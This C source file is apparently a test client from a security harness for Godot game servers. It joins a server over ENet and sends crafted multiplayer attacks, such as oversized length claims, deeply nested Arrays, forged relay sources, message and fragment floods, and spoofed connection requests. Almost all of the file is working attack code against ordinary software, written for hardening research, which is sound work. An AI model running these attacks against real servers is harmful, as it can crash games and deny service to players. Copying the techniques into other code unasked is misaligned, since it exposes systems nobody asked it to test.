/* SPDX-License-Identifier: MIT */
/* hostile_client: a test client that joins a real Godot server over real ENet (Debian's libenet)
 * exactly as Godot's own client does, waits for the server's handshake, then sends one crafted
 * SceneMultiplayer (Godot 4) or MultiplayerAPI (Godot 3) attack. tools/engines/guard/README.md lists the
 * attacks and what each did to each engine.
 *
 *   hostile_client GEN HOST PORT ATTACK [--range-coder] [--linger MS]
 *   hostile_client --list
 *
 * GEN is 4 (Godot 4.x: no Godot header, channel 0 reliable, 1 unreliable) or 3 (Godot 3.2 - 3.x: an
 * 8-byte source/target header, channel 0 config, 1 reliable, 2 unreliable). --range-coder: the ENet
 * range coder on this host, as Godot 3.4+ uses by default (the server's datagrams are compressed).
 * It prints, one `key=value` line each, what it did: `joined id=N`, `handshake ...`, `sent
 * attack=NAME packets=N bytes=N t_ms=EPOCH_MS` (the wall time when the last packet left), and
 * `end state=...`. Exit 0 when the attack was sent, 2 on usage, 3 when it could not join.
 *
 * How Godot joins (read in Godot 4.6.3's source, godot_4.6.3+ds.orig.tar.xz, and 3.6.2's):
 *  - 4.6.3 modules/enet/enet_multiplayer_peer.cpp:94: connect_to_host(address, port, channel_count > 0 ?
 *    channel_count + SYSCH_MAX : 0, unique_id); modules/enet/enet_connection.cpp:111: 0 channels means
 *    ENET_PROTOCOL_MAXIMUM_CHANNEL_COUNT (255); the CONNECT data is the client's Godot peer id, which the
 *    server takes as the peer's id and refuses when < 2 or taken (enet_multiplayer_peer.cpp:206-211).
 *  - 3.6.2 modules/enet/networked_multiplayer_enet.cpp:198: enet_host_connect(host, &address,
 *    channel_count, unique_id), channel_count = SYSCH_MAX = 3 (:908, networked_multiplayer_enet.h:58-62);
 *    compression_mode = COMPRESS_RANGE_CODER by default (:912); every packet carries source u32 and
 *    target i32 first (:582), and the server drops a packet whose source is not the sender (:372).
 *  - The RPC layouts: 4.6.3 modules/multiplayer/scene_rpc_interface.cpp:156-292 (meta byte, node id,
 *    method id, argc, compressed Variants; the uncached node form 0x80000000 | offset of an appended
 *    path, :63-70 and :128-148); 3.6.2 core/io/multiplayer_api.cpp:186-232 (command, target u32,
 *    method name, argc, Variants, the same uncached form at :236-244). SYS: 4.6.3
 *    scene_multiplayer.cpp:286-353. README.md has the attacks and their results.
 */
#define _POSIX_C_SOURCE 200809L
#include <enet/enet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>

enum { BUF_MAX = 1 << 20 };

typedef struct {
    uint8_t *p;
    size_t n;
} buf_t;

static long long now_ms(void) {
    struct timespec t;
    clock_gettime(CLOCK_REALTIME, &t);
    return (long long)t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

static void put8(buf_t *b, unsigned v) { b->p[b->n++] = (uint8_t)v; }
static void put32le(buf_t *b, uint32_t v) {
    for (int i = 0; i < 4; i++) put8(b, (v >> (8 * i)) & 0xFF);
}
static void put_bytes(buf_t *b, const void *s, size_t n) {
    memcpy(b->p + b->n, s, n);
    b->n += n;
}
static void put_cstring(buf_t *b, const char *s) { put_bytes(b, s, strlen(s) + 1); }

/* The Variant type ids of each generation (4.6.3 core/variant/variant.h, 3.6.2 core/variant.h). */
typedef struct {
    int gen;
    unsigned t_int, t_string, t_object, t_dictionary, t_array, t_byte_array, t_int32_array;
    unsigned cmd_raw; /* the RAW command (send_bytes): 4.6.3 scene_multiplayer.h NETWORK_COMMAND_RAW 3, 3.6.2
                         core/io/multiplayer_api.h NETWORK_COMMAND_RAW 4 */
} gen_t;
static const gen_t GENS[] = {
    {4, 2, 4, 24, 27, 28, 29, 30, 3},
    {3, 2, 4, 17, 18, 19, 20, 21, 4},
};

/* One argument Variant. Godot 4 sends INT compressed (scene/main/multiplayer_api.cpp: 0x02 and one
 * byte for -128..127); every other type is the plain Variant of its generation. */
static void v_int(buf_t *b, const gen_t *g, int v) {
    if (g->gen == 4) {
        put8(b, 0x02);
        put8(b, (uint8_t)(int8_t)v);
    } else {
        put32le(b, g->t_int);
        put32le(b, (uint32_t)v);
    }
}
static void string_body(buf_t *b, const char *s) { /* length, bytes, padding to 4 */
    size_t n = strlen(s);
    put32le(b, (uint32_t)n);
    put_bytes(b, s, n);
    while (b->n % 4) put8(b, 0);
}
static void v_string(buf_t *b, const gen_t *g, const char *s) {
    put32le(b, g->t_string);
    string_body(b, s);
}
/* An Array nested `depth` deep: [[[...[]...]]], 8 bytes a level. */
static void v_nested(buf_t *b, const gen_t *g, int depth) {
    for (int i = 0; i < depth; i++) {
        put32le(b, g->t_array);
        put32le(b, i + 1 < depth ? 1 : 0);
    }
}

typedef struct attack attack_t;
typedef struct {
    ENetHost *host;
    ENetPeer *peer;
    const gen_t *g;
    uint32_t my_id;
    uint32_t other_id; /* a peer the server announced (SYS ADD_PEER / SYSMSG_ADD_PEER), else 0 */
    int packets;
    size_t bytes;
} ctx_t;

/* Send one MultiplayerAPI packet reliably (or unreliably, unsequenced) to the server; Godot 3 gets
 * its 8-byte header with `source` (normally our id) and target 1. */
static void send_mp(ctx_t *c, const buf_t *m, int reliable, uint32_t source) {
    uint8_t hdr[8];
    size_t extra = c->g->gen == 3 ? 8 : 0;
    ENetPacket *p = enet_packet_create(NULL, m->n + extra,
                                       reliable ? ENET_PACKET_FLAG_RELIABLE
                                                : ENET_PACKET_FLAG_UNSEQUENCED | ENET_PACKET_FLAG_UNRELIABLE_FRAGMENT);
    if (extra) {
        buf_t h = {hdr, 0};
        put32le(&h, source);
        put32le(&h, 1);
        memcpy(p->data, hdr, 8);
    }
    memcpy(p->data + extra, m->p, m->n);
    int ch = c->g->gen == 4 ? (reliable ? 0 : 1) : (reliable ? 1 : 2);
    enet_peer_send(c->peer, (enet_uint8)ch, p);
    c->packets++;
    c->bytes += m->n + extra;
}

/* The game's RPCs (tools/engines/guard/hostile_game4.gd / hostile_game3.gd). Godot 4 numbers them by
 * their sorted names (scene_rpc_interface.cpp:72-100): any 0, blob 1, ping 2, typed 3, zfast 4. */
enum { M_ANY, M_BLOB, M_PING, M_TYPED, M_ZFAST };
static const char *const METHOD_NAMES[] = {"any", "blob", "ping", "typed", "zfast"};

/* An RPC on the node at `path` (uncached form: the path rides after the arguments) with `argc` and
 * its arguments already encoded in `args`. */
static void rpc(ctx_t *c, const char *path, int method_id, const char *method_name, int argc, const buf_t *args,
                int reliable) {
    buf_t m = {malloc(args->n + 512), 0};
    if (c->g->gen == 4) {
        put8(&m, 0x00 | (2 << 4)); /* REMOTE_CALL, node id as u32, method id as u8 */
        put32le(&m, 0x80000000u | (uint32_t)(1 + 4 + 1 + 1 + args->n));
        put8(&m, (unsigned)method_id);
    } else {
        put8(&m, 0x00); /* NETWORK_COMMAND_REMOTE_CALL */
        put32le(&m, 0x80000000u | (uint32_t)(1 + 4 + strlen(method_name) + 1 + 1 + args->n));
        put_cstring(&m, method_name);
    }
    put8(&m, (unsigned)argc);
    put_bytes(&m, args->p, args->n);
    put_cstring(&m, path);
    send_mp(c, &m, reliable, c->my_id);
    free(m.p);
}

static void rpc_game(ctx_t *c, int method, int argc, const buf_t *args) {
    rpc(c, "Game", method, METHOD_NAMES[method], argc, args, 1);
}

static void pump(ctx_t *c, int ms) {
    ENetEvent ev;
    struct timespec t0, t;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    for (;;) {
        clock_gettime(CLOCK_MONOTONIC, &t);
        long el = (t.tv_sec - t0.tv_sec) * 1000 + (t.tv_nsec - t0.tv_nsec) / 1000000;
        if (el >= ms) break;
        if (enet_host_service(c->host, &ev, (enet_uint32)(ms - el > 10 ? 10 : ms - el)) > 0 &&
            ev.type == ENET_EVENT_TYPE_RECEIVE)
            enet_packet_destroy(ev.packet);
    }
}

/* ---- the attacks ---- */
static buf_t args_buf(void) { return (buf_t){malloc(BUF_MAX), 0}; }

static void a_control(ctx_t *c) { /* a valid call: the client's own check that it reaches the game */
    buf_t a = args_buf();
    v_int(&a, c->g, 77);
    rpc_game(c, M_PING, 1, &a);
    free(a.p);
}
static void a_object(ctx_t *c) { /* a full Object (class "Node", no properties), never allowed by default */
    buf_t a = args_buf();
    put32le(&a, c->g->t_object); /* no OBJECT_AS_ID flag: a full object (4.6.3 marshalls.cpp:716-731) */
    string_body(&a, "Node");
    put32le(&a, 0); /* property count */
    rpc_game(c, M_ANY, 1, &a);
    free(a.p);
}
static void nested(ctx_t *c, int depth) {
    buf_t a = {malloc((size_t)depth * 8 + 16), 0};
    v_nested(&a, c->g, depth);
    rpc_game(c, M_ANY, 1, &a);
    free(a.p);
}
static void a_depth_1100(ctx_t *c) { nested(c, 1100); } /* past Variant::MAX_RECURSION_DEPTH = 1024 */
static void a_depth_27000(ctx_t *c) { nested(c, 27000); } /* 216 KB: 3.2.3 dies of it (README.md) */
/* One argument of `type` claiming `count` elements and carrying only `n` 32-bit words. */
static void claim(ctx_t *c, int method, uint32_t type, uint32_t count, const uint32_t *carried, int n) {
    buf_t a = args_buf();
    put32le(&a, type);
    put32le(&a, count);
    for (int i = 0; i < n; i++) put32le(&a, carried[i]);
    rpc_game(c, method, 1, &a);
    free(a.p);
}
static void a_bytes_2gb(ctx_t *c) { /* a PackedByteArray claiming 0x7FFFFFF0 bytes, carrying 16 (00 01 ... 0F) */
    const uint32_t bytes[] = {0x03020100, 0x07060504, 0x0B0A0908, 0x0F0E0D0C};
    claim(c, M_BLOB, c->g->t_byte_array, 0x7FFFFFF0u, bytes, 4);
}
/* A RAW packet (send_bytes) holding the put_var length 2^31-1 and nothing after it: a game reading it with
 * StreamPeerBuffer.get_var reads 2 GiB past the packet (docs/engine-findings.md, finding 3). */
static void a_raw_put_var(ctx_t *c) {
    uint8_t b[5] = {(uint8_t)c->g->cmd_raw, 0xff, 0xff, 0xff, 0x7f};
    buf_t m = {b, sizeof b};
    send_mp(c, &m, 1, c->my_id);
}
static void a_count_array(ctx_t *c) { /* an Array claiming 2^31-1 elements, carrying one 32-bit int 1 */
    const uint32_t one[] = {c->g->t_int, 1};
    claim(c, M_ANY, c->g->t_array, 0x7FFFFFFFu, one, 2);
}
static void a_count_int32(ctx_t *c) { /* a PackedInt32Array claiming 2^29 elements (2 GiB), carrying 4 */
    const uint32_t four[] = {0, 1, 2, 3};
    claim(c, M_ANY, c->g->t_int32_array, 0x20000000u, four, 4);
}
static void a_count_dictionary(ctx_t *c) { /* a Dictionary claiming 2^31-1 pairs, carrying none */
    claim(c, M_ANY, c->g->t_dictionary, 0x7FFFFFFFu, NULL, 0);
}
/* Engine finding 7 (docs/engine-findings.md): Array[Vector3i] (Godot 4's typed Array header 0x0009001c, element type
 * 10) holding Vector3(0, 4.397412e+36, -0): 4.6.3's decode converts the element to Vector3i by int32_t(float), undefined
 * in C++ for a value out of int's range (core/math/vector3.cpp:161-163); an x86-64 build holds -2147483648 there. The
 * same bytes to Godot 3 are a type id past VARIANT_MAX. */
static void a_typed_float(ctx_t *c) {
    static const uint8_t typed[] = {0x1c, 0x00, 0x09, 0x00, 0x0a, 0, 0, 0, 0x01, 0, 0, 0, 0x09, 0, 0, 0,
                                    0, 0, 0, 0, 0x4a, 0xba, 0x53, 0x7c, 0x00, 0x00, 0x00, 0x80};
    buf_t a = args_buf();
    put_bytes(&a, typed, sizeof typed);
    rpc_game(c, M_ANY, 1, &a);
    free(a.p);
}
static void a_wrong_types(ctx_t *c) { /* typed(a: int, b: String) called with ("x", 5) */
    buf_t a = args_buf();
    v_string(&a, c->g, "x");
    v_int(&a, c->g, 5);
    rpc_game(c, M_TYPED, 2, &a);
    free(a.p);
}
static void a_wrong_count(ctx_t *c) { /* typed(a, b) called with 5 arguments, then with none */
    buf_t a = args_buf();
    for (int i = 0; i < 5; i++) v_int(&a, c->g, i);
    rpc_game(c, M_TYPED, 5, &a);
    a.n = 0;
    rpc_game(c, M_TYPED, 0, &a);
    free(a.p);
}
static void a_unknown_method(ctx_t *c) { /* method id 200 (Godot 4) / name "no_such_rpc" (Godot 3) */
    buf_t a = args_buf();
    v_int(&a, c->g, 1);
    rpc(c, "Game", 200, "no_such_rpc", 1, &a, 1);
    free(a.p);
}
static void a_unknown_path(ctx_t *c) {
    buf_t a = args_buf();
    v_int(&a, c->g, 1);
    rpc(c, "NoSuchNode/Deeper", M_PING, "ping", 1, &a, 1);
    free(a.p);
}
/* A relay with a forged source. Godot 4: SYS RELAY to everyone wrapping a SYS RELAY that claims to
 * come from the server (peer 1) around a ping, and a SYS ADD_PEER only the server may send. Godot 3:
 * the 8-byte header's source set to another peer's id (the honest client's), target 1. */
static void a_relay_forged(ctx_t *c) {
    buf_t a = args_buf(), m = args_buf();
    v_int(&a, c->g, 66);
    if (c->g->gen == 4) {
        put8(&m, 7); put8(&m, 3); put32le(&m, 0);           /* SYS RELAY to all */
        put8(&m, 7); put8(&m, 3); put32le(&m, 1);           /* "from the server" */
        put8(&m, 0x20); put32le(&m, 0x80000000u | (1 + 4 + 1 + 1 + (uint32_t)a.n));
        put8(&m, M_PING); put8(&m, 1); put_bytes(&m, a.p, a.n); put_cstring(&m, "Game");
        send_mp(c, &m, 1, c->my_id);
        m.n = 0;
        put8(&m, 7); put8(&m, 1); put32le(&m, 12345);       /* SYS ADD_PEER from a client */
        send_mp(c, &m, 1, c->my_id);
    } else {
        put8(&m, 0x00); put32le(&m, 0x80000000u | (uint32_t)(1 + 4 + 5 + 1 + a.n));
        put_cstring(&m, "ping"); put8(&m, 1); put_bytes(&m, a.p, a.n); put_cstring(&m, "Game");
        send_mp(c, &m, 1, c->other_id ? c->other_id : 1);
    }
    free(a.p);
    free(m.p);
}
/* A message flood: 20,000 unreliable calls of zfast(i) in bursts of 200, each burst flushed. */
static void a_message_flood(ctx_t *c) {
    buf_t a = args_buf();
    for (int i = 0; i < 20000; i++) {
        a.n = 0;
        v_int(&a, c->g, i % 100);
        rpc(c, "Game", M_ZFAST, "zfast", 1, &a, 0);
        if (i % 200 == 199) {
            enet_host_flush(c->host);
            pump(c, 2);
        }
    }
    free(a.p);
}
/* One reliable fragment of a message, written raw on the client's own socket and session: the header
 * with the peer id, session and sent time, then SEND_FRAGMENT with the acknowledge flag (thirdparty/enet
 * protocol.h: ENetProtocolSendFragment, every field big-endian), its reliable sequence number start +
 * number, and `size` bytes of 0x5A. */
static void raw_fragment(ctx_t *c, ENetChannel *ch, uint16_t start, uint32_t count, uint32_t number, uint32_t size) {
    uint8_t d[64 + 1024];
    size_t n = 0;
    uint16_t seq = (uint16_t)(start + number);
    uint16_t peer_field = (uint16_t)(c->peer->outgoingPeerID | (c->peer->outgoingSessionID << 12) | 0x8000);
    uint16_t st = (uint16_t)enet_time_get();
    uint8_t head[] = {peer_field >> 8, peer_field & 0xFF, st >> 8, st & 0xFF, 8 | 0x80, (uint8_t)(ch - c->peer->channels),
                      seq >> 8, seq & 0xFF, start >> 8, start & 0xFF, (uint8_t)(size >> 8), size & 0xFF};
    memcpy(d, head, sizeof head);
    n = sizeof head;
    uint32_t fields[4] = {count, number, count * size, number * size};
    for (int i = 0; i < 4; i++) {
        d[n++] = fields[i] >> 24; d[n++] = (fields[i] >> 16) & 0xFF;
        d[n++] = (fields[i] >> 8) & 0xFF; d[n++] = fields[i] & 0xFF;
    }
    memset(d + n, 0x5A, size);
    n += size;
    ENetBuffer eb = {.data = d, .dataLength = n};
    enet_socket_send(c->host->socket, &c->peer->address, &eb, 1);
    c->packets++;
    c->bytes += n;
}

/* A fragment flood, written as raw ENet datagrams on the client's own socket and session: 25
 * messages on channel 0 each announcing 1,000 fragments of 1,000 bytes (1 MB), of which every
 * fragment but the last is sent, so none is ever complete (thirdparty/enet protocol.c,
 * enet_protocol_handle_send_fragment, holds each until it is). The reliable sequence numbers are
 * taken from the channel's own counter, so the session stays consistent. */
static void a_fragment_flood(ctx_t *c) {
    enum { MESSAGES = 25, FRAGMENTS = 1000, FRAG = 1000 };
    ENetChannel *ch = &c->peer->channels[c->g->gen == 4 ? 0 : 1];
    for (int m = 0; m < MESSAGES; m++) {
        uint16_t start = (uint16_t)(ch->outgoingReliableSequenceNumber + 1);
        for (uint32_t f = 0; f < FRAGMENTS - 1; f++) {
            raw_fragment(c, ch, start, FRAGMENTS, f, FRAG);
            if (f % 50 == 49) pump(c, 1);
        }
        ch->outgoingReliableSequenceNumber = (uint16_t)(start + FRAGMENTS - 1);
    }
}


/* A client vanishing mid-fragment: 50 of the 100 fragments of a 100 KB reliable message, then the
 * process ends at once, with no DISCONNECT (the holder of the fragments must forget them by itself). */
static void a_vanish_mid_fragment(ctx_t *c) {
    ENetChannel *ch = &c->peer->channels[c->g->gen == 4 ? 0 : 1];
    uint16_t start = (uint16_t)(ch->outgoingReliableSequenceNumber + 1);
    for (uint32_t f = 0; f < 50; f++) raw_fragment(c, ch, start, 100, f, 1000);
    printf("sent attack=vanish_mid_fragment packets=%d bytes=%zu t_ms=%lld\nend state=vanished\n", c->packets, c->bytes,
           now_ms());
    fflush(stdout);
    _exit(0);
}

/* 10,000 spoofed source addresses within 127.0.0.0/8 (every one is local on lo): from each, one ENet
 * CONNECT to the server's address, as a new client's first datagram (thirdparty/enet protocol.h,
 * ENetProtocolConnect: 48 bytes after the 4-byte datagram header, peer id 0xFFF), then the socket is closed. */
static void a_spoofed_sources(ctx_t *c) {
    for (uint32_t i = 0; i < 10000; i++) {
        uint32_t host = (127u << 24) | (1u << 16) | (i + 1); /* 127.1.0.1 ... 127.1.39.16 */
        int fd = socket(AF_INET, SOCK_DGRAM, 0);
        if (fd < 0) continue;
        struct sockaddr_in from = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(host)};
        struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(c->peer->address.port),
                                 .sin_addr.s_addr = c->peer->address.host};
        uint8_t d[52] = {0x8F, 0xFF, 0, 0, 0x82, 0xFF, 0, 1}; /* header 4 + CONNECT 48 */
        uint32_t fields[] = {1392, 32768, c->g->gen == 4 ? 255 : 3, 0, 0, 5000, 2, 2, (uint32_t)rand(), 2 + i};
        d[8] = 0; d[9] = 0; d[10] = 0; d[11] = 0; /* outgoingPeerID 0, session ids 0 */
        for (int k = 0; k < 10; k++) {
            d[12 + 4 * k] = fields[k] >> 24; d[13 + 4 * k] = (fields[k] >> 16) & 0xFF;
            d[14 + 4 * k] = (fields[k] >> 8) & 0xFF; d[15 + 4 * k] = fields[k] & 0xFF;
        }
        if (bind(fd, (struct sockaddr *)&from, sizeof from) == 0 &&
            sendto(fd, d, sizeof d, 0, (struct sockaddr *)&to, sizeof to) == (ssize_t)sizeof d) {
            c->packets++;
            c->bytes += sizeof d;
        }
        close(fd);
        if (i % 500 == 499) pump(c, 5);
    }
}

struct attack {
    const char *name;
    void (*run)(ctx_t *);
    const char *what;
};
static const attack_t ATTACKS[] = {
    {"control", a_control, "a valid ping(77): the client reaches the game"},
    {"object", a_object, "any(<full Object of class Node>)"},
    {"depth_1100", a_depth_1100, "any(Array nested 1,100 deep), past MAX_RECURSION_DEPTH 1024"},
    {"depth_27000", a_depth_27000, "any(Array nested 27,000 deep), 216 KB"},
    {"bytes_2gb", a_bytes_2gb, "blob(PackedByteArray claiming 0x7FFFFFF0 bytes, 16 sent)"},
    {"raw_put_var", a_raw_put_var, "RAW (send_bytes) of the put_var length 2^31-1, read by the game with StreamPeerBuffer.get_var"},
    {"count_array", a_count_array, "any(Array claiming 2^31-1 elements, 1 sent)"},
    {"count_int32", a_count_int32, "any(PackedInt32Array claiming 2^29 elements, 4 sent)"},
    {"count_dictionary", a_count_dictionary, "any(Dictionary claiming 2^31-1 pairs, 0 sent)"},
    {"typed_float", a_typed_float, "any(Array[Vector3i] holding Vector3(0, 4.397412e+36, -0)): finding 7's undefined conversion"},
    {"wrong_types", a_wrong_types, "typed(a: int, b: String) called with (\"x\", 5)"},
    {"wrong_count", a_wrong_count, "typed(a, b) called with 5 arguments, then 0"},
    {"unknown_method", a_unknown_method, "method id 200 (4) / name no_such_rpc (3) on Game"},
    {"unknown_path", a_unknown_path, "ping(1) on the node path NoSuchNode/Deeper"},
    {"relay_forged", a_relay_forged, "4: SYS RELAY wrapping a RELAY claiming source 1, and a SYS ADD_PEER; 3: header source = another peer"},
    {"message_flood", a_message_flood, "20,000 unreliable zfast(i) in bursts of 200"},
    {"fragment_flood", a_fragment_flood, "25 reliable 1 MB messages, 999 of 1,000 fragments each, raw ENet"},
    {"vanish_mid_fragment", a_vanish_mid_fragment, "50 of 100 fragments of a 100 KB message, then gone without DISCONNECT"},
    {"spoofed_sources", a_spoofed_sources, "one ENet CONNECT from each of 10,000 addresses 127.1.0.1 - 127.1.39.16"},
};
enum { N_ATTACKS = sizeof ATTACKS / sizeof ATTACKS[0] };


static int usage(void) {
    fprintf(stderr, "usage: hostile_client 4|3 HOST PORT ATTACK [--range-coder] [--linger MS]\n"
                    "       hostile_client --list\n");
    return 2;
}

int main(int argc, char **argv) {
    if (argc == 2 && strcmp(argv[1], "--list") == 0) {
        for (int i = 0; i < N_ATTACKS; i++) printf("%s\t%s\n", ATTACKS[i].name, ATTACKS[i].what);
        return 0;
    }
    if (argc < 5) return usage();
    const gen_t *g = NULL;
    for (size_t i = 0; i < sizeof GENS / sizeof GENS[0]; i++)
        if (atoi(argv[1]) == GENS[i].gen) g = &GENS[i];
    const attack_t *at = NULL;
    for (int i = 0; i < N_ATTACKS; i++)
        if (strcmp(argv[4], ATTACKS[i].name) == 0) at = &ATTACKS[i];
    if (!g || !at) return usage();
    int range_coder = 0, linger = 1500;
    for (int i = 5; i < argc; i++) {
        if (strcmp(argv[i], "--range-coder") == 0) range_coder = 1;
        else if (strcmp(argv[i], "--linger") == 0 && i + 1 < argc) linger = atoi(argv[++i]);
        else return usage();
    }
    if (enet_initialize() != 0) return 3;
    ENetHost *host = enet_host_create(NULL, 1, 0, 0, 0);
    if (!host) return 3;
    if (range_coder) enet_host_compress_with_range_coder(host);
    ENetAddress addr;
    enet_address_set_host(&addr, argv[2]);
    addr.port = (enet_uint16)atoi(argv[3]);
    srand((unsigned)(now_ms() ^ (long long)getpid()));
    ctx_t c = {.host = host, .g = g, .my_id = 2 + (uint32_t)(rand() % 0x7FFFFFF0)};
    size_t channels = g->gen == 4 ? ENET_PROTOCOL_MAXIMUM_CHANNEL_COUNT : 3;
    c.peer = enet_host_connect(host, &addr, channels, c.my_id);
    ENetEvent ev;
    int joined = 0;
    for (int i = 0; i < 300 && !joined; i++) /* 3 s at most */
        if (enet_host_service(host, &ev, 10) > 0 && ev.type == ENET_EVENT_TYPE_CONNECT) joined = 1;
    if (!joined) {
        printf("end state=cannot_join\n");
        return 3;
    }
    ENetAddress local;
    enet_socket_get_address(host->socket, &local);
    printf("joined id=%u channels=%zu\nlocal_port=%u\n", c.my_id, c.peer->channelCount, local.port);
    /* The handshake: the server announces the peers it has (4.6.3 scene_multiplayer.cpp:366-384 SYS
     * ADD_PEER on channel 0; 3.6.2 networked_multiplayer_enet.cpp:276-290 SYSMSG_ADD_PEER on the config
     * channel). Wait up to 1.5 s for one (an honest client is there in every run), then 200 ms more. */
    int got = 0;
    for (int i = 0; i < 150 && !got; i++) {
        if (enet_host_service(host, &ev, 10) <= 0 || ev.type != ENET_EVENT_TYPE_RECEIVE) continue;
        const uint8_t *d = ev.packet->data;
        size_t n = ev.packet->dataLength;
        if (g->gen == 4 && n == 6 && d[0] == 7 && d[1] == 1) {
            c.other_id = d[2] | d[3] << 8 | (uint32_t)d[4] << 16 | (uint32_t)d[5] << 24;
            got = 1;
        } else if (g->gen == 3 && ev.channelID == 0 && n == 8 && d[0] == 0) {
            c.other_id = d[4] | d[5] << 8 | (uint32_t)d[6] << 16 | (uint32_t)d[7] << 24;
            got = 1;
        }
        enet_packet_destroy(ev.packet);
    }
    printf("handshake add_peer=%u\n", c.other_id);
    pump(&c, 200);
    at->run(&c);
    enet_host_flush(host);
    printf("sent attack=%s packets=%d bytes=%zu t_ms=%lld\n", at->name, c.packets, c.bytes, now_ms());
    fflush(stdout);
    pump(&c, linger);
    printf("end state=%s\n", c.peer->state == ENET_PEER_STATE_CONNECTED ? "connected" : "disconnected");
    enet_peer_disconnect_now(c.peer, 0);
    enet_host_destroy(host);
    enet_deinitialize();
    return 0;
}
